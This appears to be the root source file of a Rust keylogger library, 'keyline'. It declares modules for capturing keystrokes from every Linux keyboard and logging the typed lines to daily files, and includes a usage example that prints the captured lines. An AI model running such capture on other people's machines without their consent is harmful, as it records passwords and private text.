//! This crate reconstructs the lines typed on Linux keyboards and logs them, one file per day.
//!
//! Key events are read from one or more [`KeyboardSet`] devices (or any other
//! [`EventSource`]), interpreted by a [`Session`] that tracks the modifier keys and the line
//! being edited, and every submitted line is handed to a [`LogSink`].
//!
//! # Example
//!
//! Capture every keyboard and print the typed lines to stdout. Note reading input devices
//! requires root privileges.
//!
//! ```no_run
//! use keyline::{
//!     shutdown, KeyboardSet, Keylogger, KeyloggerResult, LogEntry, LogSink, Session,
//! };
//!
//! struct Stdout;
//!
//! impl LogSink for Stdout {
//!     fn write(&mut self, entry: &LogEntry) -> KeyloggerResult<()> {
//!         println!("[{}] {}", entry.timestamp.format("%H:%M:%S"), entry.text());
//!         Ok(())
//!     }
//! }
//!
//! #[tokio::main(flavor = "current_thread")]
//! async fn main() -> KeyloggerResult<()> {
//!     let (_handle, signal) = shutdown::channel();
//!     let keyboards = KeyboardSet::detect()?;
//!
//!     Keylogger::new(keyboards, Stdout, Session::default(), signal)
//!         .capture()
//!         .await?;
//!
//!     Ok(())
//! }
//! ```

#[cfg(not(target_os = "linux"))]
compile_error!("This crate only works on Linux");

pub mod binlog;
mod config;
mod error;
mod interpreter;
mod key_code;
mod keyboard;
mod keylogger;
mod keymap;
mod line_buffer;
mod modifiers;
pub mod shutdown;
mod sink;
mod source;

pub use config::{CaptureConfig, DEFAULT_LOG_DIR};
pub use error::KeyloggerError;
pub use interpreter::{LogEntry, Session, Transition};
pub use key_code::KeyCode;
pub use keyboard::{find_keyboards, InputDevice, KeyEvent, KeyEventCause, KeyboardSet, SourceId};
pub use keylogger::{CaptureStats, Keylogger};
pub use keymap::{Action, Keymap, Layout};
pub use line_buffer::{LineBuffer, TypedKey, DEFAULT_LINE_LIMIT};
pub use modifiers::ModifierState;
pub use sink::{DailyFileSink, LogFormat, LogSink, MemorySink};
pub use source::{next_event, EventSource, NextEvent, ScriptedSource, Step, Wake};

pub type KeyloggerResult<T> = Result<T, KeyloggerError>;
